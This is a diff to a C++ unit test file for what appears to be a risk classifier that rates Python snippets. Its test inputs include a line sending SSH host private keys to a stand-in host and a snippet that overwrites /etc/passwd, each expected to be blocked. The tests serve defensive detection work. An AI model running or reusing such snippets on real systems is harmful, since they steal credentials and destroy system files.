@@ -419,6 +419,13 @@ TEST(AssessDataFlow, IteratedObjectsDefaultsAndReceiversGivenByTheCaller) {
   EXPECT_EQ(level("import glob, socket\nkeys = [open(p, 'rb').read() for p in glob.glob('/etc/ssh/ssh_host_*_key')]\n"
                   "socket.create_connection(('h.example', 6443)).sendall(b''.join(keys))\n"),
             RiskLevel::blocked);
+  // A path a caller gives to a helper that writes through the parameter's own method.
+  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('/etc/passwd'), '')\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('/etc/hosts'), 'x')\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("from pathlib import Path\ndef put(p, text):\n    p.write_text(text)\nput(Path('notes.txt'), 'x')\n"),
+            RiskLevel::medium);
   // A docstring shown as the command's help is not code that runs.
   EXPECT_EQ(level("\"\"\"Rules are literals (never eval'd): parsed with ast.literal_eval.\"\"\"\nimport argparse\n"
                   "ap = argparse.ArgumentParser(description=__doc__)\nap.parse_args()\n"),
